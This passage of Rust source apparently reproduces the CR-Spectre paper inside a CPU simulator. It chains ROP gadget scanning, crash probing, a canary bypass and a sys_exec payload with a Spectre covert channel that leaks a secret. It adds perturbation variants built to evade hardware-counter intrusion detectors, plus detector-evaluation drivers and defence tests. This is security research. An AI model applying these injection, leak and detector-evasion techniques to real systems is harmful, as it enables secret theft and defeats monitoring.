    }

    #[test]
    fn fences_pair_with_flushes() {
        let params = PerturbParams::paper_default();
        let m = run_perturb(&params);
        assert_eq!(
            m.pmu().count(HpcEvent::Fences),
            m.pmu().count(HpcEvent::Flushes),
            "every clflush is followed by mfence, as in Algorithm 2"
        );
    }

    #[test]
    fn variants_have_different_hpc_footprints() {
        let mut generator = VariantGenerator::new(99);
        let v1 = generator.next_variant();
        let v2 = generator.next_variant();
        let v3 = generator.next_variant();
        assert_eq!(v1, PerturbParams::evasive_default());
        assert_ne!(v2, v3);
        let f1 = run_perturb(&v1).pmu().count(HpcEvent::Flushes);
        let f2 = run_perturb(&v2).pmu().count(HpcEvent::Flushes);
        let f3 = run_perturb(&v3).pmu().count(HpcEvent::Flushes);
        assert!(
            f1 != f2 || f2 != f3,
            "variants should perturb differently: {f1} {f2} {f3}"
        );
    }

    #[test]
    fn delay_increases_cycles_not_flushes() {
        let base = PerturbParams::paper_default();
        let delayed = PerturbParams { delay: 500, ..base };
        let m1 = run_perturb(&base);
        let m2 = run_perturb(&delayed);
        assert_eq!(
            m1.pmu().count(HpcEvent::Flushes),
            m2.pmu().count(HpcEvent::Flushes)
        );
        assert!(
            m2.cycles() > m1.cycles() + 1000,
            "delay disperses work in time: {} vs {}",
            m2.cycles(),
            m1.cycles()
        );
    }

    #[test]
    fn generator_is_seeded() {
        let a: Vec<_> = {
            let mut g = VariantGenerator::new(5);
            (0..5).map(|_| g.next_variant()).collect()
        };
        let b: Vec<_> = {
            let mut g = VariantGenerator::new(5);
            (0..5).map(|_| g.next_variant()).collect()
        };
        assert_eq!(a, b);
        assert_eq!(a.len(), 5);
    }
}

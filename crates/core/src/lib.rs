//! # cr-spectre-core
//!
//! The paper's contribution: CR-Spectre — a defense-aware, ROP-injected,
//! code-reuse-based dynamic Spectre attack — together with the plain
//! Spectre baselines it is compared against.
//!
//! * [`spectre`] — generates the speculative attack binary (v1 bounds-
//!   check bypass and an RSB variant) as an injectable guest image;
//! * [`covert`] — the flush+reload channel: parameters, guest emitters,
//!   calibration;
//! * [`perturb`] — Algorithm 2: the parameterized `clflush`/`mfence`
//!   perturbation kernel and the defense-aware variant generator;
//! * [`attack`] — one-call orchestration of the full Figure-1 chain
//!   (host, gadget scan, payload, injection, profiling, secret recovery);
//! * [`campaign`] — multi-attempt campaigns against offline/online HIDs
//!   and the experiment drivers for the paper's Figures 4–6 and Table I;
//! * [`parallel`] — the deterministic parallel execution engine the
//!   campaign drivers fan out on: order-preserving scoped-thread
//!   `par_map` plus per-trial seed derivation, with results guaranteed
//!   bit-identical at every thread count.
//!
//! # Example: the headline attack
//!
//! ```no_run
//! use cr_spectre_core::attack::{run_cr_spectre, AttackConfig};
//! use cr_spectre_workloads::mibench::Mibench;
//!
//! let outcome = run_cr_spectre(&AttackConfig::new(Mibench::Sha1))?;
//! println!("leaked: {}", String::from_utf8_lossy(&outcome.recovered));
//! assert!(outcome.leak_accuracy() > 0.99);
//! # Ok::<(), cr_spectre_core::attack::AttackError>(())
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod attack;
pub mod campaign;
pub mod covert;
pub mod parallel;
pub mod perturb;
pub mod spectre;

pub use attack::{run_cr_spectre, run_standalone_spectre, AttackConfig, AttackOutcome};
pub use covert::CovertConfig;
pub use parallel::{derive_seed, par_map, par_map_indices};
pub use perturb::{PerturbParams, VariantGenerator};
pub use spectre::{build_spectre_image, SpectreConfig, SpectreVariant};

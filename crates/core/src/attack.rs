//! CR-Spectre orchestration: the full attack chain of Figure 1.
//!
//! One [`run_cr_spectre`] call performs everything the paper describes:
//! build the vulnerable host, register the (optionally perturbed) Spectre
//! binary, harvest ROP gadgets from the host's executable pages, discover
//! the frame layout by crash probing, construct the Listing-1 payload
//! whose chain returns into `sys_exec("spectre")` and then resumes the
//! host, deliver it as `argv[1]`, and profile the whole hijacked run —
//! returning the recovered secret and the HPC trace the HID will judge.

use std::fmt;

use cr_spectre_hpc::features::FeatureSet;
use cr_spectre_hpc::profiler::{profile, Trace};
use cr_spectre_rop::chain::{Chain, ChainError};
use cr_spectre_rop::exploit::probe_ret_offset;
use cr_spectre_rop::payload::PayloadBuilder;
use cr_spectre_rop::scanner::Scanner;
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::error::Fault;
use cr_spectre_workloads::host::{
    vulnerable_host, HostOptions, RESUME_SYMBOL, SECRET, SECRET_SYMBOL,
};
use cr_spectre_workloads::mibench::Mibench;

use crate::covert::CovertConfig;
use crate::perturb::PerturbParams;
use crate::spectre::{build_spectre_image, SpectreConfig, SpectreVariant};

/// Name under which the attack binary is registered (the `execve` path).
pub const ATTACK_BINARY: &str = "spectre";

/// Full configuration of one CR-Spectre attack run.
#[derive(Debug, Clone)]
pub struct AttackConfig {
    /// The MiBench-like host to hijack.
    pub host: Mibench,
    /// Host build options (buffer size, canary).
    pub host_options: HostOptions,
    /// Machine (microarchitecture + protections) configuration.
    pub machine: MachineConfig,
    /// Speculation variant of the injected binary.
    pub variant: SpectreVariant,
    /// Algorithm-2 perturbation, if any (`Some` = CR-Spectre).
    pub perturb: Option<PerturbParams>,
    /// Covert-channel parameters.
    pub covert: CovertConfig,
    /// PMU sampling interval in cycles.
    pub sample_interval: u64,
    /// How many secret bytes the attack leaks.
    pub secret_len: u32,
}

impl AttackConfig {
    /// A default attack against `host`: Spectre v1, no perturbation,
    /// leaking the whole secret.
    pub fn new(host: Mibench) -> AttackConfig {
        AttackConfig {
            host,
            host_options: HostOptions::default(),
            machine: MachineConfig::default(),
            variant: SpectreVariant::V1,
            perturb: None,
            covert: CovertConfig::default(),
            sample_interval: 2_000,
            secret_len: SECRET.len() as u32,
        }
    }

    /// Attaches a perturbation (turning the run into CR-Spectre proper).
    pub fn with_perturb(mut self, params: PerturbParams) -> AttackConfig {
        self.perturb = Some(params);
        self
    }

    /// Switches the speculation variant.
    pub fn with_variant(mut self, variant: SpectreVariant) -> AttackConfig {
        self.variant = variant;
        self
    }
}

/// Why an attack run could not even be launched.
#[derive(Debug)]
pub enum AttackError {
    /// The host image did not load.
    Load(Fault),
    /// Crash probing found no return-address offset and none was known.
    NoOffset,
    /// The gadget catalog was missing a required gadget.
    Chain(ChainError),
}

impl fmt::Display for AttackError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackError::Load(e) => write!(f, "host failed to load: {e}"),
            AttackError::NoOffset => write!(f, "could not locate the return-address offset"),
            AttackError::Chain(e) => write!(f, "chain construction failed: {e}"),
        }
    }
}

impl std::error::Error for AttackError {}

impl From<ChainError> for AttackError {
    fn from(e: ChainError) -> AttackError {
        AttackError::Chain(e)
    }
}

/// The observable result of one attack run.
#[derive(Debug)]
pub struct AttackOutcome {
    /// The profiled HPC trace of the whole (hijacked) host run.
    pub trace: Trace,
    /// Bytes the attack exfiltrated over the covert channel.
    pub recovered: Vec<u8>,
    /// Cycle spans during which the injected binary executed.
    pub injection_spans: Vec<(u64, u64)>,
    /// Sampling interval the trace was recorded with.
    pub sample_interval: u64,
}

impl AttackOutcome {
    /// Fraction of secret bytes recovered correctly.
    pub fn leak_accuracy(&self) -> f64 {
        let want = &SECRET[..self.recovered.len().min(SECRET.len())];
        if want.is_empty() {
            return 0.0;
        }
        let hits = want
            .iter()
            .zip(&self.recovered)
            .filter(|(a, b)| a == b)
            .count();
        hits as f64 / want.len() as f64
    }

    /// Feature rows of the windows that overlap an injection span — the
    /// windows a per-application HID attributes to the (hijacked) host
    /// while the attack executes. For a standalone attack run (no
    /// injection spans recorded) every window is returned.
    pub fn attack_rows(&self, features: &FeatureSet) -> Vec<Vec<f64>> {
        if self.injection_spans.is_empty() {
            return self.trace.feature_rows(features.events());
        }
        let mut rows = Vec::new();
        let mut window_start = 0u64;
        for sample in &self.trace.samples {
            let window_end = sample.at_cycle;
            let overlaps = self.injection_spans.iter().any(|&(s, e)| {
                let e = if e == u64::MAX { window_end } else { e };
                window_end >= s && window_start <= e
            });
            if overlaps {
                rows.push(
                    features
                        .events()
                        .iter()
                        .map(|&ev| sample.count(ev) as f64)
                        .collect(),
                );
            }
            window_start = window_end;
        }
        rows
    }
}

/// Runs the complete CR-Spectre chain and returns its observables.
///
/// # Errors
///
/// Returns an [`AttackError`] when the host cannot be loaded, the frame
/// offset cannot be determined, or a required gadget is missing. A run
/// whose *attack* fails (e.g. a canary the adversary has not leaked)
/// still returns `Ok` — the outcome's trace shows the crash, exactly what
/// a defender would observe.
pub fn run_cr_spectre(config: &AttackConfig) -> Result<AttackOutcome, AttackError> {
    let host = vulnerable_host(config.host, config.host_options);
    let mut machine = Machine::new(config.machine.clone());
    let loaded = machine.load(&host.image).map_err(AttackError::Load)?;

    // The adversary knows the secret's address (paper threat model).
    let secret_addr = loaded.addr(SECRET_SYMBOL);
    let spectre = SpectreConfig {
        binary_name: ATTACK_BINARY.to_string(),
        secret_addr,
        secret_len: config.secret_len,
        variant: config.variant,
        covert: config.covert,
        train_rounds: 8,
        rounds_per_byte: 2,
        perturb: config.perturb,
    };
    machine.register_image(build_spectre_image(&spectre));

    // GDB-style gadget hunt over the host's executable pages.
    let gadgets = Scanner::default().scan_image(&machine, &loaded);

    // Frame layout: crash-probe when possible (a canary host aborts the
    // probe, so fall back to the adversary's prior knowledge).
    let offset = probe_ret_offset(&machine, loaded.entry, host.offset_to_ret() + 128)
        .unwrap_or(host.offset_to_ret());

    // The binary name travels inside the attack string, right after the
    // chain; its address is predictable because the stack is not
    // randomized.
    let buffer_addr = machine.initial_sp()
        - 8 // return address pushed by `call exploited_function`
        - if host.canary { 8 } else { 0 }
        - u64::from(host.frame_size);
    let chain_len_words = 4u64; // pop_r1, name_addr, sys_exec, resume
    let name_addr = buffer_addr + offset as u64 + chain_len_words * 8;
    let mut chain = Chain::new(&gadgets);
    chain.set_reg(cr_spectre_sim::isa::Reg::R1, name_addr)?;
    chain.invoke(loaded.addr("sys_exec"));
    chain.resume(loaded.addr(RESUME_SYMBOL));
    debug_assert_eq!(chain.words().len() as u64, chain_len_words);

    let mut builder = PayloadBuilder::new(offset);
    if let Some(canary_off) = host.canary_offset() {
        // The paper notes canaries "can also be evaded"; we model the
        // leaked-canary bypass explicitly.
        builder = builder.with_canary(canary_off, machine.canary());
    }
    let mut payload = builder.build(chain.words());
    payload.extend_from_slice(ATTACK_BINARY.as_bytes());
    payload.push(0);

    machine.start_with_arg(loaded.entry, &payload);
    let trace = profile(&mut machine, &format!("cr_{}", config.host.name()), config.sample_interval);
    let recovered = machine.take_stdout();
    Ok(AttackOutcome {
        trace,
        recovered,
        injection_spans: machine.injection_spans().to_vec(),
        sample_interval: config.sample_interval,
    })
}

/// Runs the attack binary **standalone** (the traditional Spectre launch
/// of Figure 2(b)): the secret-bearing victim image is merely loaded, and
/// the attack binary itself is the profiled application.
pub fn run_standalone_spectre(config: &AttackConfig) -> AttackOutcome {
    let victim = cr_spectre_workloads::host::standalone_image(config.host);
    let mut machine = Machine::new(config.machine.clone());
    let loaded = machine.load(&victim).expect("victim loads");
    let secret_addr = loaded.addr(SECRET_SYMBOL);
    let spectre = SpectreConfig {
        binary_name: ATTACK_BINARY.to_string(),
        secret_addr,
        secret_len: config.secret_len,
        variant: config.variant,
        covert: config.covert,
        train_rounds: 8,
        rounds_per_byte: 2,
        perturb: config.perturb,
    };
    let image = build_spectre_image(&spectre);
    let attack_loaded = machine.load(&image).expect("attack binary loads");
    machine.start(attack_loaded.entry);
    let trace = profile(&mut machine, spectre.variant.name(), config.sample_interval);
    let recovered = machine.take_stdout();
    AttackOutcome {
        trace,
        recovered,
        injection_spans: Vec::new(),
        sample_interval: config.sample_interval,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn standalone_spectre_recovers_the_secret() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M);
        let outcome = run_standalone_spectre(&cfg);
        assert_eq!(
            String::from_utf8_lossy(&outcome.recovered),
            String::from_utf8_lossy(SECRET),
            "leak accuracy {}",
            outcome.leak_accuracy()
        );
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
        assert!(!outcome.trace.is_empty());
    }

    #[test]
    fn standalone_rsb_variant_recovers_the_secret() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M).with_variant(SpectreVariant::Rsb);
        let outcome = run_standalone_spectre(&cfg);
        assert!(
            outcome.leak_accuracy() > 0.95,
            "RSB leak accuracy {} ({:?})",
            outcome.leak_accuracy(),
            String::from_utf8_lossy(&outcome.recovered)
        );
    }

    #[test]
    fn cr_spectre_injects_and_recovers_the_secret() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M);
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!(outcome.trace.outcome.exit.is_clean(), "{:?}", outcome.trace.outcome.exit);
        assert_eq!(
            String::from_utf8_lossy(&outcome.recovered),
            String::from_utf8_lossy(SECRET)
        );
        assert_eq!(outcome.injection_spans.len(), 1, "one exec injection");
        let (s, e) = outcome.injection_spans[0];
        assert!(e > s && e != u64::MAX, "injection span closed");
    }

    #[test]
    fn cr_spectre_host_still_computes_correctly() {
        // Stealth: after the hijack the host resumes and its workload
        // produces the right checksum.
        let cfg = AttackConfig::new(Mibench::Crc32);
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!(outcome.trace.outcome.exit.is_clean());
        // The host's checksum ends in r11; rebuild the scenario to check.
        let host = vulnerable_host(cfg.host, cfg.host_options);
        let _ = host; // checksum verified in the workloads crate; here we
                      // assert the run was clean and the secret leaked.
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
    }

    #[test]
    fn cr_spectre_with_perturbation_still_leaks() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M)
            .with_perturb(PerturbParams::paper_default());
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
    }

    #[test]
    fn canary_host_is_bypassed_with_leaked_canary() {
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.host_options.canary = true;
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!(outcome.trace.outcome.exit.is_clean(), "{:?}", outcome.trace.outcome.exit);
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
    }

    #[test]
    fn evict_reload_channel_leaks_without_clflush() {
        // The §IV clflush ban kills flush+reload — the adaptive attacker
        // switches to eviction-based resets and the leak is back.
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.machine.protect.clflush_enabled = false;
        cfg.covert = crate::covert::CovertConfig::evict_reload();
        cfg.secret_len = 16;
        for variant in SpectreVariant::ALL {
            let outcome = run_standalone_spectre(&cfg.clone().with_variant(variant));
            assert!(
                outcome.trace.outcome.exit.is_clean(),
                "{variant}: {:?}",
                outcome.trace.outcome.exit
            );
            assert!(
                outcome.leak_accuracy() > 0.95,
                "{variant}: clflush-free leak accuracy {}",
                outcome.leak_accuracy()
            );
        }
    }

    #[test]
    fn evict_reload_also_works_rop_injected() {
        let mut cfg = AttackConfig::new(Mibench::Crc32);
        cfg.machine.protect.clflush_enabled = false;
        cfg.covert = crate::covert::CovertConfig::evict_reload();
        cfg.secret_len = 16;
        let outcome = run_cr_spectre(&cfg).expect("launches");
        assert!(outcome.trace.outcome.exit.is_clean());
        assert!(outcome.leak_accuracy() > 0.95, "{}", outcome.leak_accuracy());
    }

    #[test]
    fn invisispec_defeats_the_leak_without_crashing() {
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.machine = cr_spectre_sim::MachineConfig::invisispec();
        cfg.secret_len = 8;
        let outcome = run_standalone_spectre(&cfg);
        // The attack runs to completion but the covert channel is dark:
        // speculative fills never happen, so nothing decodes.
        assert!(outcome.trace.outcome.exit.is_clean());
        assert!(
            outcome.leak_accuracy() < 0.2,
            "InvisiSpec must keep speculation invisible; leaked {:?}",
            String::from_utf8_lossy(&outcome.recovered)
        );
    }

    #[test]
    fn csf_defeats_the_leak_without_crashing() {
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.machine = cr_spectre_sim::MachineConfig::csf();
        cfg.secret_len = 8;
        let outcome = run_standalone_spectre(&cfg);
        assert!(outcome.trace.outcome.exit.is_clean());
        assert!(
            outcome.leak_accuracy() < 0.2,
            "fenced branches must not execute the transient path; leaked {:?}",
            String::from_utf8_lossy(&outcome.recovered)
        );
    }

    #[test]
    fn attack_rows_are_a_subset_of_the_trace() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M);
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        let features = FeatureSet::paper_default();
        let rows = outcome.attack_rows(&features);
        assert!(!rows.is_empty());
        assert!(rows.len() <= outcome.trace.len());
        assert!(rows.iter().all(|r| r.len() == features.len()));
    }
}

//! Multi-attempt attack campaigns and the paper's experiment drivers.
//!
//! This module regenerates the four evaluation artifacts:
//!
//! * [`fig4`] — HID accuracy vs feature size (16/8/4/2/1) for four
//!   MiBench hosts against standalone Spectre (variant-averaged);
//! * [`fig5`] — offline HIDs over 10 attempts: (a) plain Spectre,
//!   (b) CR-Spectre with one static perturbation;
//! * [`fig6`] — online (retraining) HIDs over 10 attempts: (a) plain
//!   Spectre, (b) CR-Spectre with dynamically generated variants;
//! * [`table1`] — host IPC overhead: original vs CR-Spectre under
//!   offline- and online-type HIDs.
//!
//! Scales (samples per class, attempts) default to paper values where
//! cheap and to documented reductions where not; every driver takes an
//! explicit [`CampaignConfig`] so benches and tests pick their own size.

use cr_spectre_hid::detector::{Hid, HidKind, HidMode};
use cr_spectre_hpc::dataset::{Dataset, Label};
use cr_spectre_hpc::features::FeatureSet;
use cr_spectre_hpc::profiler::{profile, Trace};
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::pmu::HpcEvent;
use cr_spectre_telemetry as telemetry;
use cr_spectre_workloads::benign::BenignApp;
use cr_spectre_workloads::host::standalone_image;
use cr_spectre_workloads::mibench::Mibench;

use crate::attack::{run_cr_spectre, run_standalone_spectre, AttackConfig, AttackOutcome};
use crate::parallel::{default_threads, derive_seed, par_map, par_map_indices};
use crate::perturb::{PerturbParams, VariantGenerator};
use crate::spectre::SpectreVariant;

/// Shared experiment configuration.
#[derive(Debug, Clone)]
pub struct CampaignConfig {
    /// Machine (microarchitecture) configuration.
    pub machine: MachineConfig,
    /// PMU sampling interval in cycles.
    pub sample_interval: u64,
    /// Target samples per class in training corpora (paper: 2000;
    /// reduced defaults keep wall-clock reasonable — see DESIGN.md).
    pub samples_per_class: usize,
    /// Attack attempts per series (paper: 10).
    pub attempts: usize,
    /// Background-activity contamination strength (see [`NoiseModel`];
    /// 0 disables). The paper's testbed is a live Ubuntu desktop whose
    /// "system noise ... caused by other applications and the operating
    /// system" contaminates every counter window; the simulator is
    /// noise-free, so this model restores that reality.
    pub noise_strength: f64,
    /// Seed for splits, shuffles and noise.
    pub seed: u64,
    /// Worker threads for the drivers' trial fan-outs (default: all
    /// cores). Results are **bit-identical for every value** — trials
    /// derive their randomness from their index via
    /// [`derive_seed`](crate::parallel::derive_seed), never from
    /// scheduling; `crates/core/tests/parallel_equivalence.rs` locks
    /// this in.
    pub threads: usize,
}

impl Default for CampaignConfig {
    fn default() -> CampaignConfig {
        CampaignConfig {
            machine: MachineConfig::default(),
            sample_interval: 2_000,
            samples_per_class: 400,
            attempts: 10,
            noise_strength: 3.0,
            seed: 0xda7e,
            threads: default_threads(),
        }
    }
}

/// Noise-stream namespaces: every `(driver, role, trial)` triple gets
/// its own stream index into [`derive_seed`], so no two windows of any
/// campaign ever draw correlated noise.
mod streams {
    pub const FIG4_HOST: u64 = 0x0400_0000;
    pub const FIG5_TRAIN: u64 = 0x0500_0000;
    pub const FIG5_SPECTRE: u64 = 0x0501_0000;
    pub const FIG5_CR: u64 = 0x0502_0000;
    pub const FIG6_TRAIN: u64 = 0x0600_0000;
    pub const FIG6_SPECTRE: u64 = 0x0601_0000;
    pub const FIG6_CR: u64 = 0x0602_0000;
    pub const FIG6_BENIGN: u64 = 0x0603_0000;
}

/// Additive background-activity noise on counter windows.
///
/// Per-column amplitudes are a fixed fraction (`strength`) of the mean
/// magnitude that column shows in a reference corpus, so the noise is
/// commensurate with real counter activity: a window can always gain a
/// few extra cache misses or branches from an OS tick, no matter which
/// application it belongs to.
#[derive(Debug, Clone)]
pub struct NoiseModel {
    amps: Vec<f64>,
}

impl NoiseModel {
    /// Fits per-column amplitudes on a reference corpus.
    ///
    /// Degenerate inputs — no rows, zero-width rows, a non-positive or
    /// non-finite strength, or columns whose magnitudes are not finite —
    /// yield the [identity model](NoiseModel::is_identity) (or an
    /// identity column) rather than NaN amplitudes that would silently
    /// corrupt every window they touch.
    pub fn fit(rows: &[Vec<f64>], strength: f64) -> NoiseModel {
        if rows.is_empty() || !strength.is_finite() || strength <= 0.0 {
            return NoiseModel::identity();
        }
        let dim = rows[0].len();
        if dim == 0 {
            return NoiseModel::identity();
        }
        let mut amps = vec![0.0; dim];
        for row in rows {
            for (a, v) in amps.iter_mut().zip(row) {
                *a += v.abs();
            }
        }
        for a in &mut amps {
            *a = *a / rows.len() as f64 * strength;
            // A column fed NaN/∞ (or short rows leaving it at 0) becomes
            // an identity column: `apply` only perturbs positive finite
            // amplitudes.
            if !a.is_finite() {
                *a = 0.0;
            }
        }
        NoiseModel { amps }
    }

    /// The model that leaves every row untouched.
    pub fn identity() -> NoiseModel {
        NoiseModel { amps: Vec::new() }
    }

    /// Whether [`NoiseModel::apply`] is a no-op.
    pub fn is_identity(&self) -> bool {
        self.amps.iter().all(|&a| a <= 0.0)
    }

    /// Adds uniform background counts to every row.
    ///
    /// The generator is seeded with
    /// [`derive_seed`]`(base_seed, stream)`, never with a raw
    /// caller-supplied value: callers name *which* noise stream they
    /// are (a `streams::*` namespace plus trial index) and the
    /// derivation guarantees two distinct streams never replay the same
    /// noise vector — regression-tested in this module.
    pub fn apply(&self, rows: &mut [Vec<f64>], base_seed: u64, stream: u64) {
        if self.amps.is_empty() {
            return;
        }
        use rand::rngs::StdRng;
        use rand::{Rng, SeedableRng};
        let mut rng = StdRng::seed_from_u64(derive_seed(base_seed, stream));
        for row in rows {
            for (v, &amp) in row.iter_mut().zip(&self.amps) {
                if amp > 0.0 {
                    *v += rng.random_range(0.0..amp);
                }
            }
        }
    }
}

impl CampaignConfig {
    /// A reduced configuration for unit tests.
    pub fn smoke() -> CampaignConfig {
        CampaignConfig { samples_per_class: 150, attempts: 3, ..CampaignConfig::default() }
    }
}

/// Profiles one standalone application (host or benign app) start to
/// finish.
pub fn profile_standalone(
    machine_cfg: &MachineConfig,
    image: &cr_spectre_sim::Image,
    interval: u64,
) -> Trace {
    let mut machine = Machine::new(machine_cfg.clone());
    let loaded = machine.load(image).expect("benign image loads");
    machine.start(loaded.entry);
    profile(&mut machine, &image.name, interval)
}

/// Collects benign-class traces: every MiBench host named in `hosts` plus
/// the browser/editor/idle applications, as in the paper's "scope of
/// applications profiled". Each application simulates on its own worker
/// (`cfg.threads`); the returned order is always hosts-then-apps,
/// independent of scheduling.
pub fn benign_traces(cfg: &CampaignConfig, hosts: &[Mibench]) -> Vec<Trace> {
    let mut images: Vec<cr_spectre_sim::Image> =
        hosts.iter().map(|&host| standalone_image(host)).collect();
    images.extend(BenignApp::ALL.into_iter().map(|app| app.image()));
    par_map(images, cfg.threads, |image| {
        profile_standalone(&cfg.machine, &image, cfg.sample_interval)
    })
}

/// Runs a standalone Spectre of the given variant and returns its
/// outcome. `attempt` introduces the run-to-run measurement variation a
/// real profiler sees (sampling phase).
pub fn spectre_trace(cfg: &CampaignConfig, variant: SpectreVariant, attempt: usize) -> AttackOutcome {
    let mut attack = AttackConfig::new(Mibench::Bitcount50M).with_variant(variant);
    attack.machine = cfg.machine.clone();
    attack.sample_interval = jittered_interval(cfg.sample_interval, attempt);
    run_standalone_spectre(&attack)
}

/// Sampling-phase jitter between attempts (real profilers never sample on
/// exactly the same cycle boundaries twice).
fn jittered_interval(base: u64, attempt: usize) -> u64 {
    base + (attempt as u64 * 37) % (base / 10 + 1)
}

/// Assembles the labelled training corpus: benign traces vs standalone
/// Spectre traces (both variants), truncated/balanced to
/// `samples_per_class`.
pub fn build_training_data(
    cfg: &CampaignConfig,
    hosts: &[Mibench],
    features: &FeatureSet,
) -> Dataset {
    let mut benign = Dataset::new();
    for trace in benign_traces(cfg, hosts) {
        benign.push_trace(&trace, Label::Benign, features);
    }
    let mut attack = Dataset::new();
    for outcome in attack_training_traces(cfg) {
        attack.push_trace(&outcome.trace, Label::Attack, features);
    }
    balance(benign, attack, cfg.samples_per_class, cfg.seed)
}

/// The four standalone-Spectre training runs (both variants, alternating)
/// every training corpus uses, fanned out over `cfg.threads` workers.
fn attack_training_traces(cfg: &CampaignConfig) -> Vec<AttackOutcome> {
    par_map_indices(4, cfg.threads, |i| {
        spectre_trace(cfg, SpectreVariant::ALL[i % SpectreVariant::ALL.len()], i)
    })
}

/// Takes up to `per_class` shuffled samples of each class.
fn balance(mut benign: Dataset, mut attack: Dataset, per_class: usize, seed: u64) -> Dataset {
    benign.shuffle(seed);
    attack.shuffle(seed.wrapping_add(1));
    let mut out = Dataset::new();
    for (src, label) in [(&benign, Label::Benign), (&attack, Label::Attack)] {
        for row in src.x.iter().take(per_class) {
            out.push_row(row.clone(), label);
        }
    }
    out
}

// ---------------------------------------------------------------------
// Figure 4
// ---------------------------------------------------------------------

/// One Figure-4 series: a host vs Spectre at each feature size.
#[derive(Debug, Clone)]
pub struct Fig4Row {
    /// The benign host of this series (`Spectre_k` legend).
    pub host: Mibench,
    /// `(feature_size, test_accuracy)` pairs, sizes 16/8/4/2/1.
    pub accuracies: Vec<(usize, f64)>,
}

/// Figure 4: HID (MLP) accuracy distinguishing one MiBench host from
/// standalone Spectre (variants averaged), for feature sizes 16/8/4/2/1.
///
/// Trace collection and per-host training both fan out over
/// `cfg.threads`. The background-application traces and the four
/// Spectre traces do not depend on the series' host, so they are
/// simulated exactly once and shared by every row (the serial engine
/// recomputed identical traces per host).
pub fn fig4(cfg: &CampaignConfig) -> Vec<Fig4Row> {
    let mut driver_span = telemetry::span("campaign.fig4");
    driver_span.field("threads", cfg.threads).field("samples_per_class", cfg.samples_per_class);
    let sizes = [16usize, 8, 4, 2, 1];
    let full = FeatureSet::paper(16);
    // Collect traces once at full width, then project per size. The
    // benign class is one series host plus the always-running background
    // applications, as in the paper's profiling scope.
    let (host_traces, app_traces, attack_outcomes) = {
        let _phase = telemetry::span("fig4.collect_traces");
        let host_traces = par_map(Mibench::FIG4_HOSTS.to_vec(), cfg.threads, |host| {
            profile_standalone(&cfg.machine, &standalone_image(host), cfg.sample_interval)
        });
        let app_traces = par_map(BenignApp::ALL.to_vec(), cfg.threads, |app| {
            profile_standalone(&cfg.machine, &app.image(), cfg.sample_interval)
        });
        let attack_outcomes = attack_training_traces(cfg);
        (host_traces, app_traces, attack_outcomes)
    };

    let per_host: Vec<(usize, Mibench, Trace)> = Mibench::FIG4_HOSTS
        .iter()
        .copied()
        .enumerate()
        .zip(host_traces)
        .map(|((index, host), trace)| (index, host, trace))
        .collect();
    par_map(per_host, cfg.threads, |(host_index, host, host_trace)| {
        let mut trial_span = telemetry::span("fig4.host");
        trial_span.field("host", host.name()).field("index", host_index);
        let mut benign = Dataset::new();
        benign.push_trace(&host_trace, Label::Benign, &full);
        for trace in &app_traces {
            benign.push_trace(trace, Label::Benign, &full);
        }
        let mut attack = Dataset::new();
        for outcome in &attack_outcomes {
            attack.push_trace(&outcome.trace, Label::Attack, &full);
        }
        let mut data = balance(benign, attack, cfg.samples_per_class, cfg.seed);
        let noise = NoiseModel::fit(&data.x, cfg.noise_strength);
        noise.apply(&mut data.x, cfg.seed, streams::FIG4_HOST + host_index as u64);
        let mut accuracies = Vec::new();
        for &size in &sizes {
            let projected = project(&data, size);
            let (train, test) = projected.split(0.7, cfg.seed);
            let hid = Hid::train(HidKind::Mlp, HidMode::Offline, train);
            accuracies.push((size, hid.test_accuracy(&test)));
        }
        Fig4Row { host, accuracies }
    })
}

/// Keeps only the first `size` feature columns (the paper-ranked prefix).
fn project(data: &Dataset, size: usize) -> Dataset {
    let mut out = Dataset::new();
    for (row, &label) in data.x.iter().zip(&data.y) {
        out.push_row(
            row[..size].to_vec(),
            if label == 1 { Label::Attack } else { Label::Benign },
        );
    }
    out
}

// ---------------------------------------------------------------------
// Figures 5 and 6
// ---------------------------------------------------------------------

/// One detector's accuracy-vs-attempt series.
#[derive(Debug, Clone)]
pub struct DetectorSeries {
    /// Which classifier family.
    pub kind: HidKind,
    /// Detection accuracy (recall on attack windows) per attempt.
    pub accuracy: Vec<f64>,
}

impl DetectorSeries {
    /// Mean accuracy over all attempts.
    pub fn mean(&self) -> f64 {
        if self.accuracy.is_empty() {
            return 0.0;
        }
        self.accuracy.iter().sum::<f64>() / self.accuracy.len() as f64
    }
}

/// A Figure-5/6 style result: plain-Spectre series and CR-Spectre series
/// for all four detector families.
#[derive(Debug, Clone)]
pub struct EvasionResult {
    /// Panel (a): plain Spectre per attempt.
    pub spectre: Vec<DetectorSeries>,
    /// Panel (b): CR-Spectre per attempt.
    pub cr_spectre: Vec<DetectorSeries>,
}

/// Figure 5: **offline** HIDs. Panel (a) profiles plain standalone
/// Spectre for each attempt; panel (b) runs ROP-injected CR-Spectre with
/// a single static perturbation (no dynamic adaptation — the offline HID
/// never learns, so none is needed, saving attack overhead as the paper
/// notes).
pub fn fig5(cfg: &CampaignConfig) -> EvasionResult {
    let mut driver_span = telemetry::span("campaign.fig5");
    driver_span.field("threads", cfg.threads).field("attempts", cfg.attempts);
